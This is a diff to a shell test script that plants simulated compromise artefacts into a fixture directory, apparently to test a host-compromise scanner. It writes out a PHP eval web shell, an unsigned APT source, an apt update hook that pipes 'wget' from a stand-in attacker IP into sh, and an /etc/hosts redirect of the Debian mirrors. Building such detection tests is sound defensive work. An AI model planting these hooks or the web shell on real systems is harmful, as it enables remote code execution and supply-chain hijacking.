@@ -11,6 +11,9 @@
 # kernel module no package owns loaded at boot, a modprobe.d install
 # command that downloads and runs, and a kernel command line that runs
 # another init.
+# packaged binary, an unowned binary in /usr/bin, a PHP web shell, an APT
+# source trusted without signatures, an apt hook that downloads and runs,
+# and /etc/hosts sending the Debian mirrors elsewhere.
 # Nothing here is live malware (see make-planted.sh).
 #
 # Usage: tests/plant-payloads.sh ROOT OUTDIR
@@ -181,6 +184,16 @@ plant persistence high /etc/default/grub.d/50-init.cfg "init=/usr/local/sbin/sys
 mkdir -p var/www/html/uploads
 printf '<?php @eval(base64_decode($_POST["c"])); ?>\n' > var/www/html/uploads/img.php
 plant malware high /var/www/html/uploads/img.php "" "PHP web shell"
+
+mkdir -p etc/apt/sources.list.d etc/apt/apt.conf.d
+printf 'deb [trusted=yes] http://203.0.113.7/debian bookworm main\n' \
+  > etc/apt/sources.list.d/bookworm-fixes.list
+plant supply high /etc/apt/sources.list.d/bookworm-fixes.list "deb [trusted=yes] http://203.0.113.7/debian" "APT source installed without signature checks"
+printf 'APT::Update::Pre-Invoke { "wget -q -O- http://203.0.113.7/a | sh"; };\n' \
+  > etc/apt/apt.conf.d/99periodic-fix
+plant supply high /etc/apt/apt.conf.d/99periodic-fix "wget -q -O- http://203.0.113.7/a | sh" "apt update hook downloads and runs"
+printf '203.0.113.7 deb.debian.org security.debian.org\n' >> etc/hosts
+plant net high /etc/hosts "203.0.113.7 deb.debian.org" "hosts sends the Debian mirrors to the attacker"
 
 sha=$(sha256sum "$miner_dir/kworker" | awk '{print $1}')
 printf '# test feed\nsha256:%s miner-kworker\npath:/var/tmp/**/config.json miner-config\n' \
